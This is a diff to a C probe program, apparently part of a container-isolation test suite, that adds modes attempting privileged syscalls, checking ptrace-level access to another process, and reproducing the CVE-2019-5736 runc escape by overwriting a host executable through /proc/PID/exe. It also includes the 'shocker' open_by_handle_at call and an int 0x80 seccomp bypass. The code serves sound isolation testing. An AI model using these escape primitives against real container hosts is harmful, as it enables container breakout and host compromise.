@@ -64,6 +64,11 @@
  *                               /dev/mqueue, sorted; "No such file or
  *                               directory" when no mqueue filesystem is
  *                               mounted there
+ *   fds                         the probe's open descriptors, from
+ *                               /proc/self/fd, sorted numerically (not the
+ *                               one it reads them through), e.g. fds=0,1,2
+ *   rlimit_nofile               RLIMIT_NOFILE, "SOFT HARD" (getrlimit(2)),
+ *                               "unlimited" for RLIM_INFINITY
  *
  * Usage: probe [--mount-proc] [KEY...]
  * `probe` prints every key.  `probe KEY...` prints those keys in the order
@@ -74,6 +79,56 @@
  * mounted (a failure is reported on stderr and the
  * /proc facts print `?`).  Use it only inside a container's own mount
  * namespace: in chapter 01 the new mount would show up on the host.
+ *
+ * Three more modes make the attempts chapter 11's tests need, each a real
+ * system call whose answer is printed, never a guess:
+ *
+ *   probe --try CALL...   make each call (below) and print `try.CALL=ok`
+ *                         or `try.CALL=<strerror text>`, in the order
+ *                         given; an unknown CALL exits 2 before any call.
+ *                         The calls are made by the probe itself, one
+ *                         after another: one that succeeds changes what
+ *                         the next one sees (after unshare_user the probe
+ *                         is in a new user namespace).
+ *     mount        mount(2) a tmpfs on /tmp          umount   umount2(2) /tmp
+ *     unshare_user unshare(CLONE_NEWUSER)            unshare_mnt unshare(CLONE_NEWNS)
+ *     clone_newuser clone(2) with CLONE_NEWUSER (the child exits at once)
+ *     clone3       clone3(2) with no arguments: EINVAL from the kernel, or
+ *                  whatever a filter answers first
+ *     keyctl       keyctl(2) KEYCTL_GET_KEYRING_ID of the session keyring
+ *     add_key      add_key(2) a "user" key to the process keyring
+ *     bpf          bpf(2) BPF_MAP_CREATE, all zero
+ *     init_module  init_module(2) of nothing   finit_module  of descriptor -1
+ *     setns        setns(2) into our own network namespace
+ *     pivot_root   pivot_root(2) of /tmp onto itself
+ *     kexec_load   kexec_load(2) of nothing
+ *     open_by_handle_at  open_by_handle_at(2), the "shocker" escape's call
+ *     swapon       swapon(2) of a file that is not there
+ *     mknod_block  mknod(2) a block device (8:0, sda) at /tmp/dc-block
+ *     ptrace_self  a child that asks PTRACE_TRACEME, and its parent's answer
+ *     int80        getpid through i386's `int $0x80` (x86-64 only): a filter
+ *                  that knows only x86-64 kills the probe (SIGSYS) instead
+ *
+ *   probe --reach PID     try what a debugger of PID could do, as
+ *                         ptrace(2)'s access check ("ptrace access mode")
+ *                         allows or not, and print reach.WHAT=ok or the
+ *                         error: exe cwd root (opening /proc/PID/exe, cwd
+ *                         and root with O_PATH), fd (opening each
+ *                         /proc/PID/fd/N: "ok" if any opened, "none" if
+ *                         there is none), environ (reading it), mem
+ *                         (opening it, the attach-level check).
+ *
+ *   probe --steal-exe PID DIR
+ *                         CVE-2019-5736's attack: open /proc/PID/exe with
+ *                         O_PATH and print steal.open=ok or the error. On
+ *                         success it forks and returns, and the child
+ *                         keeps the descriptor: it makes the fifos DIR/go
+ *                         and DIR/result, waits for a line on DIR/go, then
+ *                         tries to open /proc/self/fd/N for writing (again
+ *                         and again while the file is busy, ETXTBSY, for up
+ *                         to 10 s), writes "dc-overwritten" over its first
+ *                         bytes if it can, and writes steal.write=ok or the
+ *                         error to DIR/result.
  */
 #define _GNU_SOURCE
 #include <arpa/inet.h>
@@ -81,9 +136,13 @@
 #include <errno.h>
 #include <fcntl.h>
 #include <ifaddrs.h>
+#include <linux/bpf.h>
+#include <linux/keyctl.h>
 #include <limits.h>
 #include <linux/magic.h>
 #include <net/if.h>
+#include <sched.h>
+#include <signal.h>
 #include <netinet/in.h>
 #include <stdarg.h>
 #include <stdint.h>
@@ -93,12 +152,15 @@
 #include <sys/ioctl.h>
 #include <sys/mount.h>
 #include <sys/prctl.h>
+#include <sys/ptrace.h>
+#include <sys/resource.h>
 #include <sys/socket.h>
 #include <sys/stat.h>
 #include <sys/statfs.h>
 #include <sys/syscall.h>
 #include <sys/sysmacros.h>
 #include <sys/utsname.h>
+#include <sys/wait.h>
 #include <time.h>
 #include <unistd.h>
 
@@ -697,6 +759,48 @@ static int fact_mqueues(struct value *v)
 	return 0;
 }
 
+/* Our open descriptors (proc(5) /proc/self/fd), without the directory's own. */
+static int fact_fds(struct value *v)
+{
+	struct dirent **list;
+	int n = scandir("/proc/self/fd", &list, is_pid, by_number);
+	if (n < 0)
+		return errno;
+	/* scandir has closed its descriptor: any number left is one of ours... */
+	for (int i = 0; i < n; i++) {
+		char path[300];
+		/* ...but the directory's was open while it read: it is gone now. */
+		snprintf(path, sizeof path, "/proc/self/fd/%s", list[i]->d_name);
+		if (access(path, F_OK) == 0 || errno != ENOENT) {
+			add_comma(v);
+			add(v, "%s", list[i]->d_name);
+		}
+		free(list[i]);
+	}
+	free(list);
+	return 0;
+}
+
+/* The open-files limit (getrlimit(2)): chapter 11 sets it. */
+static void add_limit(struct value *v, rlim_t limit)
+{
+	if (limit == RLIM_INFINITY)
+		add(v, "unlimited");
+	else
+		add(v, "%llu", (unsigned long long)limit);
+}
+
+static int fact_rlimit_nofile(struct value *v)
+{
+	struct rlimit lim;
+	if (getrlimit(RLIMIT_NOFILE, &lim) < 0)
+		return errno;
+	add_limit(v, lim.rlim_cur);
+	add(v, " ");
+	add_limit(v, lim.rlim_max);
+	return 0;
+}
+
 /* The output contract: every key in order, and the function that reads it. */
 static const struct fact {
 	const char *key;
@@ -748,6 +852,8 @@ static const struct fact {
 	{"ipc_shm", fact_ipc_shm},
 	{"ipc_sem", fact_ipc_sem},
 	{"mqueues", fact_mqueues},
+	{"fds", fact_fds},
+	{"rlimit_nofile", fact_rlimit_nofile},
 };
 
 static const struct fact *find_fact(const char *key)
@@ -795,12 +901,319 @@ static void mount_proc(void)
 		fprintf(stderr, "probe: mount proc on /proc: %s\n", strerror(errno));
 }
 
+/* ---- Chapter 11's attempts: --try, --reach, --steal-exe ---------------------- */
+
+/* An attempt's answer: 0 for success, else the errno it failed with. */
+static int answer(long result)
+{
+	return result == -1 ? errno : 0;
+}
+
+static void print_answer(const char *key, int err)
+{
+	printf("%s=%s\n", key, err == 0 ? "ok" : strerror(err));
+}
+
+static int try_mount(void)
+{
+	return answer(mount("dc-probe", "/tmp", "tmpfs", 0, NULL));
+}
+static int try_umount(void)
+{
+	return answer(umount2("/tmp", MNT_DETACH));
+}
+static int try_unshare_user(void)
+{
+	return answer(unshare(CLONE_NEWUSER));
+}
+static int try_unshare_mnt(void)
+{
+	return answer(unshare(CLONE_NEWNS));
+}
+
+/* clone(2) itself, not glibc's wrapper: fork-like, the flags in the first register. */
+static int try_clone_newuser(void)
+{
+	long pid = syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, NULL, NULL, NULL, NULL);
+	if (pid == 0)
+		_exit(0);
+	if (pid > 0)
+		waitpid((pid_t)pid, NULL, 0);
+	return answer(pid < 0 ? -1 : 0);
+}
+
+static int try_clone3(void)
+{
+	return answer(syscall(SYS_clone3, NULL, 0));
+}
+static int try_keyctl(void)
+{
+	return answer(syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 1));
+}
+static int try_add_key(void)
+{
+	return answer(syscall(SYS_add_key, "user", "dc-probe", "x", 1, KEY_SPEC_PROCESS_KEYRING));
+}
+static int try_bpf(void)
+{
+	union bpf_attr attr;
+	memset(&attr, 0, sizeof attr);
+	return answer(syscall(SYS_bpf, BPF_MAP_CREATE, &attr, sizeof attr));
+}
+static int try_init_module(void)
+{
+	return answer(syscall(SYS_init_module, NULL, 0, ""));
+}
+static int try_finit_module(void)
+{
+	return answer(syscall(SYS_finit_module, -1, "", 0));
+}
+static int try_setns(void)
+{
+	int fd = open("/proc/self/ns/net", O_RDONLY | O_CLOEXEC);
+	if (fd < 0)
+		return errno;
+	int err = answer(setns(fd, CLONE_NEWNET));
+	close(fd);
+	return err;
+}
+static int try_pivot_root(void)
+{
+	return answer(syscall(SYS_pivot_root, "/tmp", "/tmp"));
+}
+static int try_kexec_load(void)
+{
+	return answer(syscall(SYS_kexec_load, 0, 0, NULL, 0));
+}
+static int try_open_by_handle_at(void)
+{
+	return answer(syscall(SYS_open_by_handle_at, AT_FDCWD, NULL, O_RDONLY));
+}
+static int try_swapon(void)
+{
+	return answer(syscall(SYS_swapon, "/dc-probe-no-such-file", 0));
+}
+static int try_mknod_block(void)
+{
+	int err = answer(mknod("/tmp/dc-block", S_IFBLK | 0600, makedev(8, 0)));
+	if (err == 0)
+		unlink("/tmp/dc-block");
+	return err;
+}
+
+/* PTRACE_TRACEME in a child: the child exits with the errno, the parent reports it. */
+static int try_ptrace_self(void)
+{
+	int status;
+	pid_t pid = fork();
+	if (pid < 0)
+		return errno;
+	if (pid == 0)
+		_exit(ptrace(PTRACE_TRACEME, 0, NULL, NULL) == -1 ? errno : 0);
+	if (waitpid(pid, &status, 0) < 0)
+		return errno;
+	return WIFEXITED(status) ? WEXITSTATUS(status) : EINTR;
+}
+
+/* getpid is 20 in i386's table; x86-64 runs int $0x80 through that table. */
+static int try_int80(void)
+{
+#if defined(__x86_64__)
+	long result;
+	__asm__ volatile("int $0x80" : "=a"(result) : "a"(20L) : "memory");
+	return result < 0 ? (int)-result : 0;
+#else
+	return ENOSYS;
+#endif
+}
+
+static const struct attempt {
+	const char *name;
+	int (*run)(void);
+} attempts[] = {
+	{"mount", try_mount},
+	{"umount", try_umount},
+	{"unshare_user", try_unshare_user},
+	{"unshare_mnt", try_unshare_mnt},
+	{"clone_newuser", try_clone_newuser},
+	{"clone3", try_clone3},
+	{"keyctl", try_keyctl},
+	{"add_key", try_add_key},
+	{"bpf", try_bpf},
+	{"init_module", try_init_module},
+	{"finit_module", try_finit_module},
+	{"setns", try_setns},
+	{"pivot_root", try_pivot_root},
+	{"kexec_load", try_kexec_load},
+	{"open_by_handle_at", try_open_by_handle_at},
+	{"swapon", try_swapon},
+	{"mknod_block", try_mknod_block},
+	{"ptrace_self", try_ptrace_self},
+	{"int80", try_int80},
+};
+
+static const struct attempt *find_attempt(const char *name)
+{
+	for (size_t i = 0; i < sizeof attempts / sizeof attempts[0]; i++)
+		if (strcmp(attempts[i].name, name) == 0)
+			return &attempts[i];
+	return NULL;
+}
+
+static int try_calls(int n, char **names)
+{
+	const struct attempt *chosen[64];
+	char key[64];
+
+	if (n > 64) {
+		fprintf(stderr, "probe: at most 64 calls\n");
+		return 2;
+	}
+	for (int i = 0; i < n; i++) {
+		chosen[i] = find_attempt(names[i]);
+		if (chosen[i] == NULL) {
+			fprintf(stderr, "probe: unknown call: %s\n", names[i]);
+			return 2;
+		}
+	}
+	for (int i = 0; i < n; i++) {
+		/* Printed before the next call: int80 may end the probe. */
+		snprintf(key, sizeof key, "try.%s", chosen[i]->name);
+		print_answer(key, chosen[i]->run());
+		fflush(stdout);
+	}
+	return 0;
+}
+
+/* Open /proc/PID/WHAT with `flags`; 0 or the errno. */
+static int open_proc(const char *pid, const char *what, int flags)
+{
+	char path[PATH_MAX];
+	snprintf(path, sizeof path, "/proc/%s/%s", pid, what);
+	int fd = open(path, flags | O_CLOEXEC);
+	if (fd < 0)
+		return errno;
+	close(fd);
+	return 0;
+}
+
+/* Each /proc/PID/fd/N: "ok" if any one opens, else the first error, or "none". */
+static void reach_fds(const char *pid)
+{
+	char path[128];
+	struct dirent **list;
+	int err = -1;
+
+	snprintf(path, sizeof path, "/proc/%s/fd", pid);
+	int n = scandir(path, &list, is_pid, by_number);
+	if (n < 0) {
+		print_answer("reach.fd", errno);
+		return;
+	}
+	for (int i = 0; i < n; i++) {
+		char fd[300];
+		snprintf(fd, sizeof fd, "fd/%s", list[i]->d_name);
+		int e = open_proc(pid, fd, O_PATH);
+		if (err != 0)
+			err = err == -1 || e == 0 ? e : err;
+		free(list[i]);
+	}
+	free(list);
+	if (err == -1)
+		printf("reach.fd=none\n");
+	else
+		print_answer("reach.fd", err);
+}
+
+static int reach(const char *pid)
+{
+	print_answer("reach.exe", open_proc(pid, "exe", O_PATH));
+	print_answer("reach.cwd", open_proc(pid, "cwd", O_PATH));
+	print_answer("reach.root", open_proc(pid, "root", O_PATH));
+	reach_fds(pid);
+	char path[128], byte;
+	snprintf(path, sizeof path, "/proc/%s/environ", pid);
+	int fd = open(path, O_RDONLY | O_CLOEXEC);
+	int err = fd < 0 ? errno : read(fd, &byte, 1) < 0 ? errno : 0;
+	if (fd >= 0)
+		close(fd);
+	print_answer("reach.environ", err);
+	print_answer("reach.mem", open_proc(pid, "mem", O_RDONLY));
+	return 0;
+}
+
+/* The child of --steal-exe: wait for the word, then write through the stolen descriptor. */
+static _Noreturn void overwrite_later(int exe, const char *dir)
+{
+	char go[PATH_MAX], result[PATH_MAX], path[64], line[16];
+	int err = ETIMEDOUT;
+
+	snprintf(go, sizeof go, "%s/go", dir);
+	snprintf(result, sizeof result, "%s/result", dir);
+	snprintf(path, sizeof path, "/proc/self/fd/%d", exe);
+	int in = open(go, O_RDONLY | O_CLOEXEC);
+	if (in < 0 || read(in, line, sizeof line) < 0)
+		err = errno;
+	else
+		for (int tries = 0; tries < 1000; tries++) {
+			int fd = open(path, O_WRONLY | O_CLOEXEC);
+			if (fd >= 0) {
+				static const char mark[] = "dc-overwritten";
+				err = pwrite(fd, mark, sizeof mark - 1, 0) < 0 ? errno : 0;
+				close(fd);
+				break;
+			}
+			err = errno;
+			if (err != ETXTBSY)
+				break;
+			usleep(10000);
+		}
+	FILE *out = fopen(result, "we");
+	if (out) {
+		fprintf(out, "steal.write=%s\n", err == 0 ? "ok" : strerror(err));
+		fclose(out);
+	}
+	_exit(0);
+}
+
+static int steal_exe(const char *pid, const char *dir)
+{
+	char path[128], go[PATH_MAX], result[PATH_MAX];
+
+	snprintf(path, sizeof path, "/proc/%s/exe", pid);
+	int exe = open(path, O_PATH | O_CLOEXEC);
+	print_answer("steal.open", exe < 0 ? errno : 0);
+	if (exe < 0)
+		return 0;
+	snprintf(go, sizeof go, "%s/go", dir);
+	snprintf(result, sizeof result, "%s/result", dir);
+	if (mkfifo(go, 0600) < 0 || mkfifo(result, 0600) < 0) {
+		fprintf(stderr, "probe: mkfifo in %s: %s\n", dir, strerror(errno));
+		return 1;
+	}
+	fflush(stdout);
+	pid_t child = fork();
+	if (child < 0) {
+		fprintf(stderr, "probe: fork: %s\n", strerror(errno));
+		return 1;
+	}
+	if (child == 0) {
+		/* Hold no one's pipe open: only the fifos talk to us now. */
+		int null = open("/dev/null", O_RDWR | O_CLOEXEC);
+		for (int fd = 0; fd < 3; fd++)
+			dup2(null, fd);
+		overwrite_later(exe, dir);
+	}
+	return 0;
+}
+
 int main(int argc, char **argv)
 {
 	int first = 1; /* argv[first] is the first key */
 
 	if (argc == 2 && (strcmp(argv[1], "-h") == 0 || strcmp(argv[1], "--help") == 0)) {
 		printf("usage: probe [--mount-proc] [KEY...]\n"
+		       "       probe --try CALL...  |  --reach PID  |  --steal-exe PID DIR\n"
 		       "Print facts about this process's environment as key=value lines.\n"
 		       "Keys:");
 		for (size_t i = 0; i < sizeof facts / sizeof facts[0]; i++)
@@ -808,6 +1221,12 @@ int main(int argc, char **argv)
 		printf("\n");
 		return fflush(stdout) == 0 ? 0 : 1;
 	}
+	if (argc > 1 && strcmp(argv[1], "--try") == 0)
+		return try_calls(argc - 2, argv + 2) || fflush(stdout) != 0;
+	if (argc == 3 && strcmp(argv[1], "--reach") == 0)
+		return reach(argv[2]) || fflush(stdout) != 0;
+	if (argc == 4 && strcmp(argv[1], "--steal-exe") == 0)
+		return steal_exe(argv[2], argv[3]) || fflush(stdout) != 0;
 	if (argc > 1 && strcmp(argv[1], "--mount-proc") == 0)
 		first = 2;
 	for (int i = first; i < argc; i++) {
